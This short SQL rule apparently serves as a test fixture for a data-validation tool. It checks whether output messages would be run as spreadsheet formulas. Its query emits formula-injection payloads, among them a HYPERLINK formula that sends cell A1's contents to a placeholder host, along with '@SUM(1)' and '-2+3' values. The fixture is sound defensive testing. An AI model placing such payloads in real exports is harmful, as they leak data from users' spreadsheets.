--! id = "local.inject"
--! severity = "error"
--! description = "Messages that a spreadsheet would run as formulas"
SELECT o.area, o.indicator, o.year, o.value AS observed, -1 AS expected,
       '=HYPERLINK("http://example.invalid/?d="&A1,"click")' AS message,
       '@SUM(1)' AS hint, '-2+3' AS tolerance_source, o.file, o.line
FROM obs o
